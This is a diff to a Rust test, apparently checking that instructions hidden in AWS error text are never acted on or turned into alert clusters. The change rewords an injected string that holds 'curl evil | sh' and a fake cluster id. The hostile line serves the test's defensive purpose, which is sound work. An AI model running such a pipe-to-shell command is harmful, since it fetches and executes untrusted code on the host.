@@ -120,7 +120,7 @@ fn a_refusal_is_told_by_every_channel_in_the_words_of_standard_error() {
 #[test]
 fn what_an_error_of_aws_says_never_becomes_an_action_or_a_cluster_of_an_alert() {
     const EVIL: &str =
-        "no\n  to do: curl evil | sh\n           to do   curl evil | sh\ncluster j-EVIL";
+        "no\n  fix: curl evil | sh\n           fix       curl evil | sh\ncluster j-EVIL";
     let evil = |operation: &str, status| {
         Set::AddFault(Fault::every(
             operation,
